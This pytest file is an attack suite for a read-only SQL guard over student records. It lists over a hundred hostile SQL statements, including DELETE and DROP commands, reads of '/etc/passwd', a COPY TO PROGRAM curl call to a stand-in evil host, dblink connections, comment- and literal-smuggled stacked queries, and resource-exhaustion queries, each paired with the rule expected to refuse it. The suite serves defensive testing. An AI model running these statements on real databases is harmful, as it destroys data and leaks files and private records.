"""The attack suite: every statement here is refused with the named rule, or runs scoped and leaks nothing.

Each case runs through the real runner (validate -> authorize -> guard -> read-only execution ->
audit) on SQLite and PostgreSQL. Expected values:
- a Rule code: the guard refuses the statement and the refusal names that rule;
- "scoped": the statement is legitimate SQL whose answer must stay inside the caller's scope;
  the run is checked for ids of students and orgs outside it and for contact details (canaries);
- "time_limit": the statement passes the static checks and the engine stops it at the deadline.
The attacker is the Austin guide (8 assigned students; no health, contact or demographic data)
unless a case names another persona.
"""

from __future__ import annotations

import json

import pytest
from sqlalchemy import func, select

from db.models import Student

S = "scoped"
GUIDE = "guide_austin"
ADMIN = "network_admin"

ATTACKS: list[tuple[str, str | dict[str, str], str]] = [
    # -- writes and DDL, in any position --
    ("DELETE FROM student", "select_only", GUIDE),
    ("DELETE FROM students", "select_only", GUIDE),
    ("INSERT INTO students (first_name) VALUES ('x')", "select_only", GUIDE),
    ("UPDATE student SET first_name = 'x'", "select_only", GUIDE),
    ("DROP TABLE student", "select_only", GUIDE),
    ("TRUNCATE student", "select_only", GUIDE),
    ("CREATE TABLE stolen AS SELECT * FROM students", "select_only", GUIDE),
    ("ALTER TABLE student ADD COLUMN x int", "select_only", GUIDE),
    ("WITH d AS (DELETE FROM student RETURNING id) SELECT * FROM d", "write", GUIDE),
    ("WITH i AS (INSERT INTO student (id) VALUES (1) RETURNING id) SELECT * FROM i", "write", GUIDE),
    ("WITH u AS (UPDATE student SET first_name = 'x' RETURNING id) SELECT count(*) FROM u", "write", GUIDE),
    (
        "SELECT first_name FROM students WHERE student_id IN "
        "(WITH d AS (DELETE FROM student RETURNING id) SELECT id FROM d)",
        "write",
        GUIDE,
    ),
    ("SELECT first_name FROM students; DELETE FROM student", "one_statement", GUIDE),
    ("SELECT 1; SELECT 2", "one_statement", GUIDE),
    ("BEGIN; DELETE FROM student; COMMIT", "one_statement", GUIDE),
    ("BEGIN", "select_only", GUIDE),
    ("COMMIT", "select_only", GUIDE),
    ("ROLLBACK", "select_only", GUIDE),
    ("COMMIT; DROP TABLE student", "one_statement", GUIDE),
    ("SET statement_timeout = 0", "select_only", GUIDE),
    ("SET ROLE postgres", "select_only", GUIDE),
    ("RESET ALL", "select_only", GUIDE),
    ("SELECT set_config('statement_timeout', '0', false)", "function", GUIDE),
    ("SELECT current_setting('is_superuser')", "function", GUIDE),
    ("SELECT first_name INTO TEMP stolen FROM students", "into", GUIDE),
    ("SELECT * INTO stolen FROM students", "into", GUIDE),
    ("COPY (SELECT * FROM students) TO '/tmp/stolen.csv'", "select_only", GUIDE),
    ("COPY student TO PROGRAM 'curl http://evil.example'", "select_only", GUIDE),
    ("EXPLAIN SELECT * FROM students", "select_only", GUIDE),
    ("DO $$ BEGIN DELETE FROM student; END $$", "select_only", GUIDE),
    ("PREPARE p AS DELETE FROM student", "select_only", GUIDE),
    ("EXECUTE p", "select_only", GUIDE),
    ("LISTEN channel", "select_only", GUIDE),
    ("DECLARE c CURSOR FOR SELECT * FROM students", "select_only", GUIDE),
    ("VACUUM INTO '/tmp/copy.db'", "select_only", GUIDE),
    # -- file, network, sleep, config and other side-effect functions --
    ("SELECT pg_read_file('/etc/passwd')", "function", GUIDE),
    ("SELECT pg_ls_dir('.')", "function", GUIDE),
    ("SELECT lo_import('/etc/passwd')", "function", GUIDE),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "table_function", GUIDE),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE student')", "function", GUIDE),
    ("SELECT pg_sleep(30)", "function", GUIDE),
    ("SELECT first_name FROM students WHERE pg_sleep(1) IS NULL", "function", GUIDE),
    ("SELECT load_extension('/tmp/evil.so')", "function", GUIDE),
    ("SELECT readfile('/etc/passwd')", "function", GUIDE),
    ("SELECT writefile('/tmp/x', 'y')", "function", GUIDE),
    ("SELECT query_to_xml('SELECT * FROM student', true, true, '')", "function", GUIDE),
    ("SELECT nextval('student_seq')", "function", GUIDE),
    ("SELECT pg_terminate_backend(1)", "function", GUIDE),
    ("SELECT version()", "function", GUIDE),
    ("SELECT sqlite_version()", "function", GUIDE),
    ("SELECT \"pg_read_file\"('/etc/passwd')", "function", GUIDE),
    ("SELECT PG_READ_FILE('/etc/passwd')", "function", GUIDE),
    # -- system catalogs, attach, pragmas --
    ("SELECT * FROM pg_catalog.pg_class", "catalog", GUIDE),
    ("SELECT * FROM pg_class", "catalog", GUIDE),
    ("SELECT * FROM pg_stat_activity", "catalog", GUIDE),
    ("SELECT * FROM information_schema.tables", "catalog", GUIDE),
    ("SELECT * FROM sqlite_master", "catalog", GUIDE),
    ("SELECT * FROM sqlite_schema", "catalog", GUIDE),
    ("SELECT * FROM pragma_table_info('student')", "table_function", GUIDE),
    ("PRAGMA table_info(student)", "select_only", GUIDE),
    (
        "SELECT first_name FROM students WHERE student_id IN (SELECT starelid FROM pg_catalog.pg_statistic)",
        "catalog",
        GUIDE,
    ),
    ("SELECT * FROM query_log", "unknown_view", GUIDE),
    ("SELECT * FROM api_key", "unknown_view", GUIDE),
    ("ATTACH DATABASE '/tmp/other.db' AS other", "select_only", GUIDE),
    ("DETACH DATABASE other", "select_only", GUIDE),
    # -- locking --
    ("SELECT first_name FROM students FOR UPDATE", "locking", GUIDE),
    ("SELECT first_name FROM students FOR SHARE", "locking", GUIDE),
    ("SELECT first_name FROM students FOR NO KEY UPDATE SKIP LOCKED", "locking", GUIDE),
    ("SELECT 1 FROM students WHERE first_name IN (SELECT first_name FROM students FOR UPDATE)", "locking", GUIDE),
    # -- unbounded work --
    ("SELECT count(*) FROM attendance a, attendance b", "cartesian", ADMIN),
    ("SELECT count(*) FROM attendance a CROSS JOIN behavior_incidents b", "cartesian", ADMIN),
    ("SELECT count(*) FROM students a JOIN students b ON true", "cartesian", ADMIN),
    ("SELECT count(*) FROM students a JOIN enrollments b ON a.grade_level = a.grade_level", "cartesian", ADMIN),
    ("WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r", "recursive", GUIDE),
    ("SELECT * FROM generate_series(1, 1000000000)", "table_function", GUIDE),
    ("SELECT generate_series(1, 1000000000)", "function", GUIDE),
    ("SELECT repeat('x', 1000000000)", "function", GUIDE),
    ("SELECT lpad('x', 1000000000, 'y')", "function", GUIDE),
    (
        "SELECT count(*) FROM attendance a JOIN attendance b ON a.student_id <> b.student_id "
        "JOIN attendance c ON c.day_on <> b.day_on",
        "time_limit",
        ADMIN,
    ),
    ("SELECT first_name FROM students LIMIT (SELECT 1000000)", "limit", GUIDE),
    ("SELECT first_name FROM students LIMIT -1", "limit", GUIDE),
    ("SELECT first_name FROM students OFFSET (SELECT 1)", "limit", GUIDE),
    ("SELECT first_name FROM students LIMIT 1 + 1", "limit", GUIDE),
    ("SELECT " + "(" * 60 + "1" + ")" * 60, "too_complex", GUIDE),
    ("SELECT first_name FROM students WHERE " + " OR ".join(["x=1"] * 2000), "too_complex", GUIDE),
    # Longer than the guard's bound: the tool's input model already refuses it.
    ("SELECT '" + "x" * 20_500 + "'", "invalid_input", GUIDE),
    # -- tenant-scope escapes --
    ("SELECT * FROM student", "unknown_view", GUIDE),
    ("SELECT * FROM enrollment", "unknown_view", GUIDE),
    ("SELECT * FROM guide_assignment", "unknown_view", GUIDE),
    ("SELECT * FROM main.student", "schema_qualified", GUIDE),
    ("SELECT * FROM public.student", "schema_qualified", GUIDE),
    ("SELECT * FROM public.students", "schema_qualified", GUIDE),
    ('SELECT * FROM "student"', "unknown_view", GUIDE),
    ('SELECT * FROM "Students"', "unknown_view", GUIDE),
    ("TABLE student", "unknown_view", GUIDE),
    ('SELECT first_name FROM "students"', S, GUIDE),
    ("WITH students AS (SELECT * FROM students) SELECT * FROM students", S, GUIDE),
    ("WITH students AS (SELECT 'x' AS first_name) SELECT first_name FROM students", S, GUIDE),
    ("WITH student AS (SELECT 1 AS id) SELECT first_name FROM students", "identifier", GUIDE),
    (
        "WITH guide_assignment AS (SELECT '00000000-0000-0000-0000-000000000000' AS student_id, "
        "'00000000-0000-0000-0000-000000000000' AS guide_user_id) SELECT first_name FROM students",
        "identifier",
        GUIDE,
    ),
    ("WITH json_each AS (SELECT 1 AS value) SELECT first_name FROM students", "identifier", GUIDE),
    ("SELECT first_name FROM students UNION ALL SELECT first_name FROM students", S, GUIDE),
    (
        "SELECT student_id FROM enrollments UNION SELECT student_id FROM attendance "
        "UNION SELECT student_id FROM behavior_incidents",
        S,
        GUIDE,
    ),
    ("SELECT student_id, first_name FROM students WHERE student_id IN (SELECT student_id FROM enrollments)", S, GUIDE),
    (
        "SELECT (SELECT count(*) FROM students) AS n, (SELECT count(DISTINCT student_id) FROM enrollments) AS m",
        S,
        GUIDE,
    ),
    (
        "SELECT s.student_id, x.n FROM students s, "
        "LATERAL (SELECT count(*) AS n FROM enrollments e WHERE e.student_id = s.student_id) x",
        {"postgresql": S, "sqlite": "transpile"},
        GUIDE,
    ),
    (
        "SELECT s.student_id, e.student_id FROM students s LEFT JOIN enrollments e "
        "ON e.student_id = s.student_id OR true",
        S,
        GUIDE,
    ),
    ("SELECT student_id FROM students WHERE org_id IS NOT NULL OR 1 = 1", S, GUIDE),
    ("SELECT student_id FROM students WHERE 1=1) OR (1=1", "syntax", GUIDE),
    ("SELECT org_id, name, path FROM organizations", S, GUIDE),
    ("SELECT * FROM organizations o WHERE o.path LIKE '/%'", S, GUIDE),
    ("SELECT household_id, student_id FROM household_members", S, GUIDE),
    ("SELECT * FROM households", S, GUIDE),
    ("SELECT * FROM students s(a, b)", "construct", GUIDE),
    ("SELECT * FROM (VALUES ('x')) v(a)", "construct", GUIDE),
    ("SELECT * FROM students NATURAL JOIN enrollments", "construct", GUIDE),
    ("SELECT * FROM ѕtudents", "identifier", GUIDE),
    ('SELECT * FROM "ѕtudents"', "identifier", GUIDE),
    ("SELECT first_name FROM students WHERE ѕtudent_id IS NULL", "identifier", GUIDE),
    ('SELECT * FROM U&"\\0073tudents"', "syntax", GUIDE),
    ('SELECT U&"\\0073sn" FROM students', "construct", GUIDE),
    ("SELECT first_name FROM students TABLESAMPLE SYSTEM (50)", "construct", GUIDE),
    ("SELECT first_name FROM students WHERE student_id = ANY(ARRAY['x'])", "construct", GUIDE),
    ("SELECT first_name FROM students WHERE sis_x IS NULL", "identifier", GUIDE),
    ("SELECT * FROM immunizations", "view_restricted", GUIDE),
    ("SELECT * FROM exemptions", "view_restricted", GUIDE),
    (
        "SELECT count(*) FROM students WHERE EXISTS "
        "(SELECT 1 FROM immunizations i WHERE i.student_id = students.student_id)",
        "view_restricted",
        GUIDE,
    ),
    # -- column-restriction escapes --
    ("SELECT birth_on FROM students", "column_restricted", GUIDE),
    ("SELECT first_name FROM students WHERE birth_on < DATE '2015-01-01'", "column_restricted", GUIDE),
    ("SELECT first_name FROM students ORDER BY birth_on", "column_restricted", GUIDE),
    ("SELECT count(*) FROM students GROUP BY ethnicity", "column_restricted", GUIDE),
    (
        "SELECT grade_level FROM students GROUP BY grade_level HAVING max(birth_on) > DATE '2015-01-01'",
        "column_restricted",
        GUIDE,
    ),
    ("SELECT first_name, row_number() OVER (PARTITION BY sex) FROM students", "column_restricted", GUIDE),
    ("SELECT first_name, rank() OVER (ORDER BY address) FROM students", "column_restricted", GUIDE),
    ("SELECT CASE WHEN email LIKE '%a%' THEN 1 ELSE 0 END FROM students", "column_restricted", GUIDE),
    ("SELECT count(DISTINCT phone) FROM students", "column_restricted", GUIDE),
    ("SELECT a.first_name FROM students a JOIN students b ON a.address = b.address", "column_restricted", GUIDE),
    ("SELECT length(address) FROM students", "column_restricted", GUIDE),
    ("SELECT (SELECT max(birth_on) FROM students) AS x", "column_restricted", GUIDE),
    ("SELECT x.b FROM (SELECT birth_on AS b FROM students) x", "column_restricted", GUIDE),
    ("SELECT first_name FROM (SELECT * FROM students) x WHERE x.birth_on > '2000-01-01'", "unknown_column", GUIDE),
    ("SELECT tuition_cents FROM offerings", "column_restricted", GUIDE),
    ("SELECT billing_share_bp FROM household_members", "column_restricted", GUIDE),
    ("SELECT address FROM households", "column_restricted", GUIDE),
    (
        "SELECT count(*) FROM students JOIN household_members USING (student_id) WHERE billing_share_bp > 0",
        "column_restricted",
        GUIDE,
    ),
    ("SELECT * FROM students", S, GUIDE),
    ("SELECT s.* FROM students s", S, GUIDE),
    ("SELECT row_to_json(s) FROM students s", "function", GUIDE),
    ("SELECT to_jsonb(s) FROM students s", "function", GUIDE),
    ("SELECT json_agg(s) FROM students s", "function", GUIDE),
    ("SELECT s FROM students s", "whole_row", GUIDE),
    ("SELECT s::text FROM students s", "whole_row", GUIDE),
    ("SELECT students FROM students", "whole_row", GUIDE),
    ("SELECT (s).birth_on FROM students s", "field_access", GUIDE),
    ("SELECT md5(birth_on::text) FROM students", "function", GUIDE),
    ("SELECT first_name FROM students WHERE first_name ~ '^A'", "function", GUIDE),
    # -- comment and encoding tricks --
    ("SELECT first_name FROM students /* ; DELETE FROM student */", S, GUIDE),
    ("SELECT first_name FROM students -- ; DELETE FROM student", S, GUIDE),
    ("SELECT first_name FROM students; -- comment\nDELETE FROM student", "one_statement", GUIDE),
    ("SELECT first_name FROM students /* /* nested */ ; DELETE FROM student */", S, GUIDE),
    ("/* leading */ DELETE FROM student", "select_only", GUIDE),
    ("SELECT E'\\x27; DELETE FROM student; --' AS x", "literal", GUIDE),
    ("SELECT first_name FROM students WHERE first_name = E'\\''; DELETE FROM student; --'", "one_statement", GUIDE),
    ("SELECT U&'\\0027; DROP TABLE student; --' AS x", "literal", GUIDE),
    ("SELECT $$; DELETE FROM student; $$ AS x", "literal", GUIDE),
    ("SELECT $a$ $$ $a$; DELETE FROM student", "one_statement", GUIDE),
    ("SELECT first_name FROM students WHERE first_name = 'x'' ; DELETE FROM student; --'", S, GUIDE),
    ("SELECT X'41' AS x", "literal", GUIDE),
    ("SELECT B'0101' AS x", "literal", GUIDE),
    ("SELECT first_name FROM students WHERE first_name = $1", "parameter", GUIDE),
    ("SELECT first_name FROM students WHERE first_name = :name", "parameter", GUIDE),
    ("SELECT first_name FROM students WHERE first_name = ?", "parameter", GUIDE),
    ("SELECT first_name FROM students WHERE first_name = '\x00'", "syntax", GUIDE),
]


def _leaks(output: dict, view: dict) -> list[str]:
    text = json.dumps(output["rows"])
    found = [i for i in view["forbidden_ids"] if i in text]
    found += [s for s in view["secrets"] if s in text]
    return found


@pytest.mark.parametrize(("sql", "expected", "who"), ATTACKS, ids=[f"attack{i:03d}" for i in range(len(ATTACKS))])
def test_attack_is_refused_or_stays_in_scope(run_sql, guide_view, demo_session, sql, expected, who):
    if isinstance(expected, dict):
        expected = expected[demo_session.get_bind().dialect.name]
    before = demo_session.execute(select(func.count()).select_from(Student)).scalar_one()
    outcome = run_sql(who, sql)
    if expected == S:
        assert outcome.error is None, f"refused: {outcome.error and outcome.error.message}"
        assert outcome.output is not None
        assert outcome.output["row_count"] <= 200
        assert not _leaks(outcome.output, guide_view)
    else:
        assert outcome.error is not None, f"got through: {outcome.output}"
        assert outcome.rule == expected, outcome.error.message
    after = demo_session.execute(select(func.count()).select_from(Student)).scalar_one()
    assert before == after


def test_the_suite_has_at_least_one_hundred_attacks():
    assert len(ATTACKS) >= 100
